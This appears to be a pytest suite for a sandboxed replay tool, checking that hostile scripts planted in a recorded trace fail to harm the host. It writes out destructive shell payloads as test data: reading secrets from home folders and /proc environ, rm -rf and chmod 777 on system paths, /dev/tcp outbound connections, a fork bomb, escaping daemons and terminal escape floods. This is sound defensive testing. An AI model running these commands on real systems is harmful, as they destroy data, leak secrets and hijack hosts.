"""A stranger's trace, replayed: its payload attacks. It fails, the host is unharmed, nothing outlives the replay."""

from __future__ import annotations

import os
import secrets
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from resealing import Mutant
from small_session import Done, Recording, Reenact

pytestmark = [pytest.mark.sandbox, pytest.mark.usefixtures("sandbox")]

TRUTH = ("diverged", "exact", "equivalent", "unsupported")
SECRET = "the-secret-of-the-host"


class Host(NamedTuple):
    """What an attack is after: baits on this machine, and what it must not leave behind."""

    baits: list[Path]
    listener: socket.socket
    strays: list[Path]
    token: str
    """Stands in the command line of every process that an attack starts."""
    stage: dict[str, bytes]
    root: Path

    @property
    def port(self) -> int:
        port: int = self.listener.getsockname()[1]
        return port

    def processes(self) -> list[str]:
        """Command lines of processes that an attack left."""
        found = []
        for folder in Path("/proc").iterdir():
            if folder.name.isdigit() and int(folder.name) != os.getpid():
                try:
                    line = (folder / "cmdline").read_bytes().decode("utf-8", "replace")
                except OSError:
                    continue
                if self.token in line and "reenact" not in line:
                    found.append(line)
        return found

    def connected(self) -> bool:
        try:
            self.listener.accept()
        except BlockingIOError:
            return False
        return True


@pytest.fixture
def host(recording: Recording) -> Iterator[Host]:
    token = secrets.token_hex(6)
    recorded_home = recording.stage.home
    baits = [folder / f".bait-{token}" for folder in (Path.home(), recorded_home, Path("/var/tmp"))]
    strays = [
        Path(folder) / f"stray-{token}"
        for folder in ("/", "/etc", "/usr/bin", "/tmp", "/var/tmp", "/dev/shm", "/run", Path.home())
    ] + [recorded_home / f"stray-{token}", recording.stage.work / f"stray-{token}"]
    listener = socket.socket()
    try:
        for bait in baits:
            bait.write_text(SECRET)
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        yield Host(baits, listener, strays, token, _content(recording.stage.root), recording.stage.root)
    finally:
        listener.close()
        for path in [*baits, *strays]:
            path.unlink(missing_ok=True)


def _content(root: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}


class Attack(NamedTuple):
    """A script that the replay runs as its first command. `shows` is what the replay must have seen of it: it ran."""

    script: str
    shows: str
    seconds: int = 60


READ = r"""
for path in {baits}; do cat $path && echo LEAKED; done
ls -a {home} | grep bait && echo LEAKED
for n in /proc/[0-9]*; do cat $n/environ $n/root{home}/.bait*; done 2>&1 \
  | tr '\0' ' ' | grep -a {secret} && echo LEAKED
echo failed to read
"""
WRITE = r"""
for path in {strays}; do echo x > $path; ln -s /etc $path.link; done 2>/dev/null
rm -rf {work} {home} /tmp/* 2>/dev/null
chmod 777 / /usr /etc /usr/bin/env 2>/dev/null; mount -t tmpfs none /mnt 2>/dev/null; kill -9 {pid} 2>/dev/null
mknod /dev/sda b 8 0 2>/dev/null; hostname evil 2>/dev/null; date -s 2001-01-01 > /dev/null 2>&1
echo wrote all over
"""
CONNECT = r"""
exec 3<>/dev/tcp/127.0.0.1/{port} && echo LEAKED >&3
(exec 3<>/dev/tcp/1.1.1.1/53) && echo LEAKED
echo no way out
"""
DAEMON = r"""
setsid sleep 100.{token_digits} > /dev/null 2>&1 < /dev/null & disown
( setsid nohup bash -c 'trap "" HUP TERM INT; exec -a {token} sleep 1000' & ) > /dev/null 2>&1
bash -c 'trap "" HUP TERM INT; while :; do sleep 1; done' {token} &
disown -a
echo left daemons
"""
KILL = "echo about to kill; kill -9 -1; /bin/kill -9 -1; kill -9 $PPID; echo survived"
STOP = "echo stops; kill -STOP $PPID; kill -STOP $$"
FORKS = r"""
echo forks
f() {{ for i in 1 2 3 4 5 6 7 8 9; do f $1 & done; sleep 100; : {token}; }} 2>/dev/null
f {token} 2> /dev/null
"""
TRAPS = r"""
cd $REENACT_SESSION && rm -rf shell-1.log notes.log
ln -s {bait} shell-1.log; mkfifo notes.log
echo traps set
"""
LOGS = r"""
yes "$(head -c 200 /dev/zero | tr '\0' x)" | head -c 70000000 >> $REENACT_SESSION/shell-1.log
yes 'note 1.00 5 Lw== bm90ZQ==.' | head -c 30000000 >> $REENACT_SESSION/notes.log
echo logs filled
"""
MARKS = r"""
nonce=$(grep -rhoE '[0-9a-f]{{32}}' $REENACT_SESSION/shell | sort | uniq -c | sort -rn \
  | head -n 1 | grep -oE '[0-9a-f]{{32}}')
for n in $(seq 3000); do for type in P R C C P X; do printf '\033]7770;%s;%s;%s;%s\007' $nonce $type $n $n; done; done
printf '\033]7770;%s;C;99999999999999999999;-1\007\033]7770;%s;\007\033]7770;%s;P' $nonce $nonce $nonce
echo marks forged
"""
DEEP = r"""
python3 -c 'import os
for i in range(3000): os.mkdir("d"); os.chdir("d")
open("x", "w")'
for n in $(seq 300); do touch "$(printf 'odd \n\t\x1b \xff name %s' $n)"; done
ln -s / root; mkdir shut; touch shut/x; chmod 0 shut; mkfifo fifo
echo dug deep
"""
ASK = r"""
stty raw -echo
for n in $(seq 20000); do printf '\033[6n\033[c\033[>c\033]11;?\007'; done
stty sane
echo asked
"""
SEQUENCES = r"""
printf '\033]0;%s\007' $(head -c 300000 /dev/zero | tr '\0' x)
printf '\033[99999999999;99999999999H\033[2147483648X\033[65535L\033[65535@\033[?%s1h' $(seq -s ';' 5000)
printf '\033[1;1r\033[9999b\033#8\033c\x9b1;2\x90abc\x9c'; head -c 300000 /dev/urandom
echo; echo shouted
"""

FAILS = {
    "reads the home folder": Attack(READ, "failed to read"),
    "leaves daemons": Attack(DAEMON, "left daemons"),
}
HARD = {
    "writes everywhere": Attack(WRITE, "wrote all over"),
    "connects": Attack(CONNECT, "no way out"),
    "kills everything": Attack(KILL, "about to kill"),
    "stops everything": Attack(STOP, "stops"),
    "fills the terminal": Attack("yes {token}", "{token}"),
    "forks without end": Attack(FORKS, "forks"),
    "plants traps for the replayer": Attack(TRAPS, "traps set"),
    "fills the side channels": Attack(LOGS, "logs filled"),
    "forges marks": Attack(MARKS, ""),
    "digs deep": Attack(DEEP, "dug deep"),
    "asks the terminal without reading": Attack(ASK, ""),
    "shouts at the terminal": Attack(SEQUENCES, ""),
}


def _table() -> list[Any]:
    quick = [pytest.param(attack, id=name) for name, attack in FAILS.items()]
    return quick + [pytest.param(attack, id=name, marks=pytest.mark.slow) for name, attack in HARD.items()]


def _poison(mutant: Mutant, script: str) -> None:
    """The script stands in the workspace, and the first command runs it."""
    mutant.snapshot_file("sub/empty", script.encode())
    mutant.tells(mutant.step("echo begin"), "bash sub/empty")


@pytest.mark.parametrize("attack", _table())
def test_an_attack_fails(
    attack: Attack, host: Host, mutant: Mutant, recording: Recording, reenact: Reenact, tmp_path: Path
) -> None:
    words = {
        "bait": host.baits[0],
        "baits": " ".join(map(str, host.baits)),
        "strays": " ".join(map(str, host.strays)),
        "home": Path.home(),
        "work": recording.stage.work,
        "secret": SECRET,
        "port": host.port,
        "token": host.token,
        "token_digits": int(host.token, 16),
        "pid": os.getpid(),
    }
    _poison(mutant, attack.script.format(**words))
    trace = mutant.seal(tmp_path / "stranger.reenact")
    begin = time.monotonic()
    done = reenact("replay", trace, "--json", "--timeout", 8)
    took = time.monotonic() - begin
    _unharmed(host, done)
    assert "LEAKED" not in done.out
    assert took < attack.seconds
    assert done.json["verdict"] == "diverged", done
    assert done.code == 1
    first = done.json["steps"][0]
    assert first["verdict"] == "diverged"
    assert attack.shows.format(**words) in str([first["miss"], *first["further"]]), first


def _unharmed(host: Host, done: Done) -> None:
    assert SECRET not in done.out + done.err
    assert not host.connected()
    assert [path for path in host.strays if os.path.lexists(path)] == []
    assert _content(host.root) == host.stage
    assert all(bait.read_text() == SECRET for bait in host.baits)
    assert host.processes() == []
